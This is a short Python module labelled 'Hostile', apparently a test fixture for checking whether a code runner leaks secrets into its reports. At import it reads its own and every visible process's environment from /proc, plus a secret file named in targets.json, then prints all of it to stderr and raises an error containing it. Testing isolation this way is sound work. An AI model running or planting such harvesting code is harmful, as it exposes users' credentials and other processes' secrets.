"""Hostile: reads every environment and file it can reach that could hold the caller's secrets
(its own, every visible process's, the secret file in the caller's HOME) and raises with all of
it, so that it lands in the report."""
import json
import os

_targets = json.load(open("targets.json"))
_found = []
for _path in ["/proc/self/environ", _targets["secret_file"]] + [
        f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _found.append(open(_path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
print("\n".join(_found), file=__import__("sys").stderr)
raise RuntimeError("found: " + " | ".join(_found))

if __name__ == "__main__":
    pass
